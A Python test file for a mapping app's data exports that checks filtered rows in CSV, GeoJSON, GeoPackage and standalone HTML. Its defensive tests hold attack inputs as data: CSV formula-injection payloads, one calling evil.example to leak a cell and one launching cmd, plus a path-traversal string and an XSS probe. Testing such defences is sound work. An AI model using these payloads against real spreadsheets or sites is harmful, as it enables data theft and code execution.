"""Downloads hold exactly the filtered rows."""

import csv
import dataclasses
import datetime as dt
import io
import json

import pandas as pd
import pytest

from atlas import export, i18n
from atlas.catalog import load_catalog
from atlas.filters import Selection, apply, describe
from tests.conftest import MALAYSIA_IDS, feature, write_data

CAT = load_catalog()
# every feature of the bundled data with Indonesia among its countries (Malaysia: MALAYSIA_IDS)
INDONESIA = {
    "jakarta_bandung_hsr",
    "bintan_industrial_estate",
    "rcec",
    "halim_station",
    "karawang_hsr_station",
    "padalarang_station",
    "tegalluar_station",
    "whoosh_extension_east_java",
    "weda_bay_industrial_park",
    "morowali_industrial_park",
    "konawe_industrial_park",
}


def test_csv_and_geojson_hold_the_filtered_rows():
    shown = apply(CAT, Selection(country=("MYS",)))
    rows = list(csv.DictReader(io.StringIO(export.to_csv(shown).decode())))
    assert {r["id"] for r in rows} == MALAYSIA_IDS
    ecrl = next(r for r in rows if r["id"] == "ecrl")
    assert ecrl["km"] == "665.0" and ecrl["km_source"] == "malaymail_2024_06_23_ecrl"
    doc = json.loads(export.to_geojson(shown))
    assert {f["id"] for f in doc["features"]} == MALAYSIA_IDS
    assert doc["features"][0]["geometry"]["type"] in ("LineString", "Point")


def test_geopackage_holds_the_filtered_rows(tmp_path):
    import geopandas as gpd

    path = tmp_path / "f.gpkg"
    path.write_bytes(export.to_geopackage(apply(CAT, Selection(country=("IDN",)))))
    gdf = gpd.read_file(path, layer="features")
    assert set(gdf["id"]) == INDONESIA
    assert gdf.crs.to_epsg() == 4326


def test_standalone_map_needs_no_server():
    html = export.standalone_html(apply(CAT, Selection(country=("MYS",)))).decode()
    assert "/app/static/" not in html  # Leaflet and jQuery are inside the file
    assert "L.map(" in html and "atlasLayer" in html
    assert html.count("data:image/png;base64,") >= 2  # Leaflet's control images, embedded
    for fid in sorted(MALAYSIA_IDS):
        assert f'"{fid}"' in html
    linked = export.standalone_html(CAT, inline=False).decode()
    # regression (issue 9): the CDN files carried no integrity attribute. The hashes are those
    # Leaflet and jQuery publish for these releases (sha384 of the files the app serves)
    assert (
        '<script src="https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js" '
        'integrity="sha384-okbbMvvx/qfQkmiQKfd5VifbKZ/W8p1qIsWvE1ROPUfHWsDcC8/BnHohF7vPg2T6" crossorigin="anonymous"></script>'
    ) in linked
    assert (
        'src="https://code.jquery.com/jquery-3.7.1.min.js" integrity="sha384-1H217gwSVyLSIfaLxHbE7dRb3v4mYCKbpQvzx0cegeju1MVsGrX5xXxAvs/HgeFs"'
        in linked
    )
    assert linked.count('crossorigin="anonymous"') == 3  # two scripts and the stylesheet


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        # OWASP's examples: a cell that starts with = + - @ (or tab / CR) runs as a formula in a spreadsheet
        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        # an ordinary name, and one with = inside, are left as they are
        ("Kuantan Port", "Kuantan Port"),
        ("A = B line", "A = B line"),
    ],
)
def test_csv_cells_never_run_as_formulas(tmp_path, name, cell):
    root = write_data(tmp_path / "data", layers={"ports": [feature("evil_port", kind="port", name=name)]})
    rows = list(csv.DictReader(io.StringIO(export.to_csv(load_catalog(root)).decode())))
    assert rows[0]["name"] == cell
    assert rows[0]["id"] == "evil_port"


def test_csv_keeps_numbers_as_numbers():
    table = pd.DataFrame({"metric": ["=1+1"], "value": [-3.5]})
    assert export.csv_bytes(table).decode().splitlines() == ['"metric","value"', '"\'=1+1",-3.5']


def test_projects_csv_with_line_breaks_and_tabs_in_names_reads_back_row_for_row():
    # regression (issue 19): a name "x\r=1+1" was written unquoted, so a spreadsheet (and csv.reader)
    # read a new row whose first cell "=1+1" the formula guard had never seen. validate now refuses
    # control characters in names, so the frame is built here.
    cat = load_catalog()
    evil = ["x\r=1+1", "x\n=2+2", "x\t=3+3", "\r=4", "\n=5", "\t=6", "-2+3\r=4", "a\r\n@SUM(1)", 'q"\r=7']
    names = [evil[i % len(evil)] for i in range(len(cat.features))]
    features = cat.features.assign(name=names, name_zh=names, summary=names)
    table = export.features_table(dataclasses.replace(cat, features=features))
    for data in (export.to_csv(dataclasses.replace(cat, features=features)), export.csv_bytes(table)):
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
        assert len(rows) == len(cat.features) + 1  # the header, then one row per feature
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
        assert [r[1] for r in rows[1:]] == ["'" + n if n[0] in "\r\n\t-" else n for n in names]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", "-2+3\r=4"),  # the probe's port name
        ("name", "Kuantan\nPort"),  # no newline in a name
        ("aliases", ["ok", "a\tb"]),
        ("summary", "A summary\u202e with a right-to-left override."),
        ("financiers", ["Bank\x00"]),
    ],
)
def test_validate_refuses_control_characters_in_text(tmp_path, field, value):
    root = write_data(tmp_path / "data", layers={"ports": [feature("evil_port", kind="port", **{field: value})]})
    cat = load_catalog(root)
    assert "evil_port" not in set(cat.features["id"])
    lines = [str(p) for p in cat.problems if p.record == "evil_port"]
    assert any(f": {field}: expected text without control characters" in line for line in lines), lines
    assert all("\n" not in line and "\r" not in line for line in lines)  # shown escaped, one line per problem


def test_validate_allows_a_newline_in_long_text(tmp_path):
    root = write_data(tmp_path / "data", layers={"ports": [feature("ok_port", kind="port", summary="Two lines.\nSecond.")]})
    assert "ok_port" in set(load_catalog(root).features["id"])


def test_downloads_carry_builders_and_financiers_and_follow_their_filter():
    shown = apply(CAT, Selection(financier=("China Development Bank",)))
    rows = list(csv.DictReader(io.StringIO(export.to_csv(shown).decode("utf-8"))))
    assert [r["id"] for r in rows] == ["jakarta_bandung_hsr", "morowali_industrial_park", "hengyi_pmb"]
    assert rows[0]["financiers"] == "China Development Bank"  # a source names it
    assert "China Development Bank" in rows[1]["aiddata_lenders"].split(";")  # AidData records it: the row says why
    assert all("China Development Bank" in r["financiers"] + r["aiddata_lenders"] for r in rows)
    assert "builders" in rows[0]
    props = json.loads(export.to_geojson(shown))["features"][0]["properties"]
    assert props["financiers"] == "China Development Bank" and props["aiddata_lenders"] == "China Development Bank"


def test_projects_table_speaks_indonesian():
    table = export.display_table(apply(CAT, Selection(country=("LAO",))), "id")
    assert {"nama", "jenis", "negara", "pemodal"} <= set(table.columns)
    assert "Koridor rel" in set(table["jenis"]) and "Beroperasi" in set(table["status"])


@pytest.mark.parametrize(
    ("sel", "stem"),
    [
        (Selection(), "atlas_all_2026-12-01"),  # no filters
        (Selection(country=("LAO",), status=("operational",)), "atlas_LAO_operational_2026-12-01"),  # the example
        (Selection(q="../../etc/passwd"), "atlas_etc-passwd_2026-12-01"),  # no path in a file name
        (Selection(q="高铁"), "atlas_高铁_2026-12-01"),  # a Chinese search keeps its characters
        (Selection(year=2020), "atlas_2020_2026-12-01"),
    ],
)
def test_download_names_carry_the_filters_and_the_date(sel, stem):
    assert export.file_stem(sel, dt.date(2026, 12, 1)) == stem


def test_soft_links_download_names_its_table():
    assert export.file_stem(Selection(), dt.date(2026, 12, 1), "soft_links") == "atlas_soft_links_all_2026-12-01"


@pytest.mark.parametrize("lang", ["en", "zh", "id"])
def test_standalone_html_has_a_title_the_filters_the_date_and_the_attribution_escaped(lang):
    sel = Selection(country=("LAO",), q="<img src=x onerror=alert(1)>")
    html = export.standalone_html(
        apply(CAT, sel), inline=False, lang=lang, sentence=describe(sel, lang), today=dt.date(2026, 12, 1)
    ).decode()
    head = html[: html.index("</head>")]
    assert "<title>" in head and "2026-12-01" in head
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "<img src=x" not in html
    assert i18n.countries(lang)["LAO"] in html[html.index("atlas-export-note") :]
    assert "OpenStreetMap" in html[html.index("atlas-export-note") :]


@pytest.mark.parametrize("lang", ["en", "zh", "id"])
def test_projects_table_shows_words_the_name_first_and_no_ids(lang):
    table = export.display_table(CAT, lang)
    assert table.columns[0] == i18n.t("col.name", lang)
    assert not {"id", "name_zh", "corridor", "related", "km_source"} & set(table.columns)
    assert i18n.t("col.id", lang) not in table.columns
    statuses = set(i18n.statuses(lang).values())
    assert set(table[i18n.t("col.status", lang)]) <= statuses
    assert "ecrl" in table.index  # the id stays, hidden, to open the row on the map
